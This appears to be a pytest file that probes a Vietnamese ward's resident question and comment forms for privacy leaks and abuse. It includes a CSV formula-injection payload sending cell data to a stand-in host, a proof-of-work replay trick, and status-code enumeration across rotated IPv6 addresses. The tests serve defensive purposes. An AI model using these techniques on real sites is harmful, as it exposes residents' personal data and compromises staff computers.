"""An outsider's probe of Hỏi đáp (probe3): what a stranger, a script or a
neighbour gets out of the residents' forms and the public answers. Each test
is a finding: it fails while the hole is open."""

import base64
import csv
import io
import json
from datetime import timedelta

import pytest
from django.utils import timezone

from questions import door, handling
from questions.models import Status, Submission

from .inbox import (
    LIST,
    editor_client_fixture,  # noqa: F401 - a fixture.
    make_item,
)
from .test_questions_forms import ASK, filled, solved
from .test_questions_models import make_submission


@pytest.fixture(autouse=True)
def quick_door(settings, monkeypatch):
    """A proof of work a test solves at once and each test's own hour."""
    settings.QUESTIONS_WORK_PREFIX = "0"
    monkeypatch.setattr(door, "TOKEN_MIN_AGE", 0)
    door.clear_local()
    yield
    door.clear_local()


def published(ward, **fields):
    fields.setdefault("status", Status.PUBLISHED)
    fields.setdefault("published_at", timezone.now() - timedelta(hours=1))
    fields.setdefault("answered_at", timezone.now() - timedelta(hours=2))
    fields.setdefault("answer", "<p>Phường trả lời: mang theo CCCD.</p>")
    fields.setdefault("slug", "tam-tru")
    return make_submission(ward, **fields)


# --- 1. The public address is made from the resident's own title -------------


def test_the_public_address_never_carries_the_askers_name_or_phone(
    reader, ward, editor
):
    """Staff press “Đăng công khai” on a question as the resident titled it:
    the page's address (on the list, in the sitemap, the canonical and
    og:url, every share) is slugified from the raw title, so the name and
    phone the scrubber hid on the page are spelled out in the URL."""
    item = make_submission(
        ward,
        name="Nguyễn Văn An",
        phone="0912345678",
        title="Nguyễn Văn An hỏi tạm trú, gọi 0912 345 678",
        status=Status.ANSWERED,
        answer="<p>Mang theo CCCD.</p>",
        answered_at=timezone.now(),
    )
    handling.apply(handling.PUBLISH, item, editor)
    item.published_at = timezone.now() - timedelta(minutes=1)
    item.save()
    listing = reader.get("/hoi-dap/").content.decode()
    sitemap = reader.get("/sitemap-hoi-dap.xml").content.decode()
    for page in (item.slug, listing, sitemap):
        assert "0912" not in page and "345-678" not in page
        assert "nguyen-van-an" not in page


# --- 2. Phone numbers and emails the scrubber does not recognise -------------

LEAKY_ANSWERS = {
    # CKEditor writes the spaces of a pasted number as &nbsp;.
    "nbsp": "<p>Gọi cán bộ qua số 0912&nbsp;345&nbsp;678.</p>",
    "plus84-zero": "<p>Gọi số +84 (0)912 345 678.</p>",
    "spaced-dashes": "<p>Gọi số 0912 - 345 - 678.</p>",
    "fullwidth": "<p>Gọi số ０９１２３４５６７８.</p>",
    "bold-part": "<p>Gọi số 0912 <strong>345 678</strong>.</p>",
}


@pytest.mark.parametrize("answer", LEAKY_ANSWERS.values(), ids=LEAKY_ANSWERS.keys())
def test_a_phone_in_the_answer_is_hidden_however_typed(reader, ward, answer):
    item = published(ward, answer=answer)
    page = reader.get(item.get_absolute_url()).content.decode()
    digits = "".join(c for c in page if c.isdigit())
    assert "912345678" not in digits.translate(
        str.maketrans("０１２３４５６７８９", "0123456789")
    )


LEAKY_QUESTIONS = {
    "plus84-zero": "Số của tôi +84 (0)912 345 678, xin gọi lại.",
    "double-spaces": "Số của tôi 0912  345  678, xin gọi lại.",
    "email-words": "Thư của tôi nguyenvanan at gmail dot com, xin trả lời.",
    "email-fullwidth-at": "Thư của tôi nguyenvanan＠gmail.com, xin trả lời.",
}


@pytest.mark.parametrize("body", LEAKY_QUESTIONS.values(), ids=LEAKY_QUESTIONS.keys())
def test_a_contact_in_the_question_is_hidden_however_typed(reader, ward, body):
    item = published(ward, body=body)
    page = reader.get(item.get_absolute_url()).content.decode()
    assert "345" not in page and "nguyenvanan" not in page


# --- 3. A flood without proof of work closes the ward to residents ----------


def test_posts_without_proof_of_work_cannot_close_the_door_to_residents(
    reader, ward, settings
):
    """No-JS posts are held under a lower cap per address, but they count
    against the ward's hour like solved ones: a script that does no work at
    all, from a few addresses, fills the ward's share and every resident
    whose browser did solve the proof of work is told to wait an hour."""
    settings.QUESTIONS_PER_WARD_PER_HOUR = 6
    for n in range(3):  # Three addresses, two held posts each: no hashing.
        for k in range(2):
            data = filled(
                reader, work=False, title=f"Rác {n}-{k}", phone=f"09000000{n}{k}"
            )
            reader.post(ASK, data, REMOTE_ADDR=f"203.0.113.{n + 1}")
    assert Submission.objects.filter(held=True).count() == 6
    resident = filled(reader, title="Đèn đường hỏng", phone="0987654321")
    response = reader.post(ASK, resident, REMOTE_ADDR="198.51.100.7")
    assert response.status_code == 302, "a resident who did the work was refused"


# --- 4. The status look-up: one phone, every code, many addresses -----------


def test_a_neighbour_cannot_scan_codes_for_a_known_phone(reader, ward, settings):
    """Codes are one sequence (HD-2026-000001, …002…): whoever knows a
    resident's phone (a neighbour they reported) tries every code with it.
    The only limit is per address, so a few addresses (or one IPv6 /48 =
    65,536 /64s) read the resident's report and the ward's private answer."""
    settings.QUESTIONS_LOOKUPS_PER_ADDRESS_PER_HOUR = 20
    for n in range(40):
        make_submission(ward, phone=f"09880000{n:02d}", title=f"Việc khác {n}")
    target = make_submission(
        ward,
        phone="0912345678",
        title="Phản ánh hàng xóm số 14 đổ rác",
        status=Status.PRIVATE,
        answer="<p>Phường đã nhắc nhở hộ số 14.</p>",
    )
    prefix, year, _ = target.code.split("-")
    revealed = False
    for number in range(1, 50):
        response = reader.post(
            "/hoi-dap/tra-cuu/",
            {"ma": f"{prefix}-{year}-{number:06d}", "lien_he": "0912345678"},
            # A new /64 every ten tries.
            REMOTE_ADDR=f"2001:db8:0:{number // 10:x}::1",
        )
        revealed |= "hàng xóm số 14" in response.content.decode()
    assert not revealed


# --- 5. A script's held comments counted on the draft's public page ----------


def test_held_comments_are_not_counted_on_the_drafts_page(reader, ward, make_document):
    """A comment sent without the proof of work (a script's, or one with many
    links) is stored held for staff to look at first, yet the draft's page
    tells everyone “Đã nhận N ý kiến góp ý” counting it: a script with a few
    addresses inflates the count of a draft under public consultation."""
    today = timezone.localdate()
    draft = make_document(
        is_draft_for_comment=True,
        comment_starts_on=today - timedelta(days=3),
        comment_ends_on=today + timedelta(days=3),
    )
    url = f"/van-ban/{draft.slug}/gop-y/"
    for n in range(4):
        data = filled(
            reader, url, work=False, phone="", title="", body=f"Phản đối dự thảo {n}."
        )
        reader.post(url, data, REMOTE_ADDR=f"203.0.113.{n // 2 + 1}")
    assert Submission.objects.filter(held=True).count() == 4
    page = reader.get(draft.get_absolute_url()).content.decode()
    assert "Đã nhận 4 ý kiến" not in page


# --- 6. The resident's home address, written not quite as in the form -------

ADDRESS_LEAKS = {
    # The resident repeats the street part of what they wrote under “Tổ dân
    # phố hoặc địa chỉ”; staff say where they went.
    "question": {"body": "Nhà tôi ở số 12 ngõ 34 Trần Phú bị ngập khi mưa."},
    "question-no-comma": {"body": "Tôi ở Tổ 5 số 12 ngõ 34 Trần Phú, bị ngập."},
    "answer": {"answer": "<p>Cán bộ đã đến số 12 ngõ 34 Trần Phú kiểm tra.</p>"},
    # The name typed without diacritics, as many phones do.
    "name-unaccented": {"body": "Tôi là Nguyen Van An, xin hỏi về tạm trú."},
}


@pytest.mark.parametrize("fields", ADDRESS_LEAKS.values(), ids=ADDRESS_LEAKS.keys())
def test_the_askers_address_and_name_never_reach_the_page(reader, ward, fields):
    item = published(
        ward, name="Nguyễn Văn An", group="Tổ 5, số 12 ngõ 34 Trần Phú", **fields
    )
    page = reader.get(item.get_absolute_url()).content.decode()
    assert "ngõ 34" not in page and "Nguyen Van An" not in page


# --- 7. Erasing the resident's data publishes their name and address --------


def test_erasing_personal_data_does_not_reveal_it_on_the_public_page(reader, ward):
    """The public page hides the name and address by matching the stored
    name and address. Erasure (on request, or after the retention period)
    cuts those down to initials and the tổ, but leaves the question and the
    answer as they were: the scrubber no longer knows what to hide, and the
    name and street address the page hid until then are shown to everyone."""
    from questions.personal_data import forget

    item = published(
        ward,
        name="Nguyễn Văn An",
        group="Tổ 5, số 12 ngõ 34 Trần Phú",
        body="Tôi là Nguyễn Văn An ở Tổ 5, số 12 ngõ 34 Trần Phú, hỏi về tạm trú.",
        answer="<p>Chào ông Nguyễn Văn An, phường đã nhận câu hỏi.</p>",
    )
    before = reader.get(item.get_absolute_url()).content.decode()
    assert "Nguyễn Văn An" not in before and "ngõ 34" not in before
    forget(Submission.objects.get(pk=item.pk))
    after = reader.get(item.get_absolute_url()).content.decode()
    assert "Nguyễn Văn An" not in after
    assert "ngõ 34" not in after


# --- 8. The personal-data export carries a resident's formula into Excel ----


def test_the_personal_data_csv_never_hands_excel_a_formula(editor_client, ward):
    """Whatever a stranger typed into the form goes into the CSV the editor
    opens in Excel on a person's request. articles/statistics.py guards its
    CSV against formulas (csv_text); this export does not: a title such as
    =HYPERLINK(…) becomes a live link (or worse) on the staff's computer."""
    make_item(
        ward,
        email="an.nguyen@example.com",
        name="=1+2",
        title='=HYPERLINK("http://ke-gian.example/?d="&A2;"Bấm để xem")',
    )
    response = editor_client.post(
        f"{LIST}du-lieu-ca-nhan/", {"email": "an.nguyen@example.com", "csv": ""}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the export found the item"
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


# --- 9. One solved proof of work, sent again and again ----------------------


def test_a_solved_proof_of_work_is_taken_once_however_it_is_spelled(reader, ward):
    """Each solution is to be taken once, but “once” is remembered by the
    hash of the payload's bytes: the same solution with its JSON spaced
    otherwise (or its keys in another order) is another payload, verified
    again. A script solves one challenge and sends with it for three hours."""
    payload = solved()
    solution = json.loads(base64.b64decode(payload))
    first = filled(reader, altcha=payload)
    assert reader.post(ASK, first, REMOTE_ADDR="203.0.113.1").status_code == 302
    stored = 0
    for n in range(1, 4):
        again = base64.b64encode(json.dumps(solution, indent=n).encode()).decode()
        data = filled(
            reader, altcha=again, title=f"Quảng cáo {n}", phone=f"098765432{n}"
        )
        response = reader.post(ASK, data, REMOTE_ADDR=f"203.0.113.{n + 1}")
        stored += response.status_code == 302
    assert stored == 0
    assert Submission.objects.count() == 1


# --- 10. Two residents of the same name, the same short comment ---------------


def test_two_residents_with_the_same_words_and_no_contact_are_two_comments(
    reader, ward, make_document
):
    """Duplicates are folded by name, contact and words. A comment needs no
    contact, and “Nguyễn Văn Hùng” writing “Đồng ý với dự thảo.” is two
    people in any ward: the second is told their comment arrived (with the
    first one's code) and it is neither stored nor counted."""
    today = timezone.localdate()
    draft = make_document(
        is_draft_for_comment=True,
        comment_starts_on=today - timedelta(days=3),
        comment_ends_on=today + timedelta(days=3),
    )
    url = f"/van-ban/{draft.slug}/gop-y/"
    for n, group in enumerate(("Tổ 2", "Tổ 9")):
        data = filled(
            reader,
            url,
            name="Nguyễn Văn Hùng",
            group=group,
            phone="",
            title="",
            body="Tôi đồng ý với dự thảo.",
        )
        assert (
            reader.post(url, data, REMOTE_ADDR=f"203.0.113.{n + 1}").status_code == 302
        )
    assert Submission.objects.filter(document=draft).count() == 2


# --- 11. A shared phone or the ward office's computer remembers a resident ----


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_what_a_resident_typed_is_not_kept_in_the_browser_for_ever(
    new_context, live_server, ward
):
    """static/js/ask.js keeps what is typed in localStorage until the sent
    page clears it, with the time it was saved, but never looks at that
    time: a resident who typed their name, phone and question on a shared
    phone or the ward's public computer and did not send (or got “thử lại
    sau”) leaves them for the next person to open the form, weeks later."""
    page = new_context(phone=True).new_page()
    url = f"{live_server.url}/hoi-dap/gui-cau-hoi/"
    page.goto(url)
    month_ago = "Date.now() - 30 * 24 * 60 * 60 * 1000"
    page.evaluate(
        "(ago) => localStorage.setItem('wn-cau-hoi', JSON.stringify({saved: ago,"
        " values: {name: 'Nguyễn Văn An', phone: '0912 345 678',"
        " body: 'Chồng tôi đánh tôi, xin phường giúp.'}}))",
        page.evaluate(month_ago),
    )
    page.goto(url)
    assert page.get_by_label("Họ và tên").input_value() == ""
    assert page.get_by_label("Số điện thoại").input_value() == ""
